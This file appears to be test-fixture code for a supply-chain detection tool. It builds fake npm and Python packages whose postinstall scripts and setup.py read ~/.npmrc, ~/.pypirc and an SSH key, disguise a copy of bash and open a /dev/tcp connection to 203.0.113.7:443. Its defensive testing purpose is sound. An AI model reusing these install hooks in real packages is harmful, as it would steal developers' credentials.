import { join } from 'node:path';
import type { TestContext } from 'node:test';
import { environment, succeeds } from './program.ts';
import { remoteHost } from './remote-host.ts';
import { type WatchedRun, watchedRun } from './watched-run.ts';
import { checkout, directory, fill, packedNpm } from './workplace.ts';

export const PACKAGE = 'left-pads';
export const DESTINATION = '203.0.113.7:443';

/** What the script of the package is written in. */
export type Language = 'shell' | 'node';

/** The payload is a shell of its own under a harmless name: it starts fast, and it can connect. */
const PAYLOAD = `-c 'exec 3<>/dev/tcp/${DESTINATION.replace(':', '/')}'`;

const shell = (payload: string): string =>
  `cat ~/.npmrc ~/.ssh/id_ed25519 > /dev/null; cp "$(command -v bash)" ${payload}; chmod +x ${payload}; ${payload} ${PAYLOAD} || true`;

const node = (payload: string): string => `const { chmodSync, copyFileSync, readFileSync } = require('node:fs');
const { execFileSync, spawnSync } = require('node:child_process');
const home = require('node:os').homedir();
readFileSync(home + '/.npmrc');
readFileSync(home + '/.ssh/id_ed25519');
copyFileSync(execFileSync('sh', ['-c', 'command -v bash']).toString().trim(), '${payload}');
chmodSync('${payload}', 0o755);
spawnSync('${payload} ${PAYLOAD.replaceAll("'", "\\'")}', { shell: true });
`;

/** Within this time the first sign has faded so little that two decimals of the score do not show it, seconds. */
const PROMPT = 0.4;
const TRIES = 5;

/**
 * Installs a package that steals: its postinstall reads two credentials, drops a program, makes it executable, runs it, and
 * connects. Where the machine was too busy to do that promptly, it is done again.
 */
export async function theft(test: TestContext, language: Language): Promise<WatchedRun> {
  for (let tries = 1; ; tries++) {
    const run = await attempt(test, language);
    if (tries === TRIES || run.document.terms.every(({ ageSeconds }) => ageSeconds < PROMPT)) return run;
  }
}

async function attempt(test: TestContext, language: Language): Promise<WatchedRun> {
  const payload = join(directory(test), 'p');
  const postinstall = language === 'shell' ? shell(payload) : 'node steal.js';
  const files = { 'steal.js': node(payload), 'index.js': '' };
  const tarball = await packedNpm(
    directory(test),
    { name: PACKAGE, version: '1.0.0', scripts: { postinstall } },
    files,
  );
  const home = directory(test, { '.npmrc': 'audit=false\n', '.ssh/id_ed25519': 'the key\n' });
  const cwd = await checkout(test, { 'package.json': '{"name":"project","version":"1.0.0"}' });
  const env = environment({ HOME: home });
  const network = remoteHost(test);
  return watchedRun(['npm', 'install', '--offline', tarball], { cwd, env, under: network.under(env) });
}

/** What the build of a Python source distribution runs. */
const SETUP = `import os, socket
home = os.path.expanduser('~')
open(home + '/.ssh/id_ed25519').read()
open(home + '/.pypirc').read()
try:
    socket.create_connection(('203.0.113.7', 443), 2)
except OSError:
    pass
from setuptools import setup
setup(name='${PACKAGE}', version='1.0.0')
`;

/** Installs a Python source distribution whose setup.py reads two credentials and connects. */
export async function pipTheft(test: TestContext): Promise<WatchedRun> {
  const files = { 'setup.py': SETUP, 'PKG-INFO': `Metadata-Version: 2.1\nName: ${PACKAGE}\nVersion: 1.0.0\n` };
  const place = directory(test);
  fill(join(place, `${PACKAGE}-1.0.0`), files);
  await succeeds(['tar', '-czf', `${PACKAGE}-1.0.0.tar.gz`, `${PACKAGE}-1.0.0`], { cwd: place });
  const cwd = await checkout(test);
  await succeeds(['python3', '-m', 'venv', 'env'], { cwd });
  await succeeds(['env/bin/pip', 'install', '--quiet', 'setuptools', 'wheel'], { cwd });
  const home = directory(test, { '.pypirc': 'a token\n', '.ssh/id_ed25519': 'the key\n' });
  const env = environment({ HOME: home });
  const argv = ['env/bin/pip', 'install', '--no-index', '--no-build-isolation', join(place, `${PACKAGE}-1.0.0.tar.gz`)];
  return watchedRun(argv, { cwd, env, under: remoteHost(test).under(env) });
}
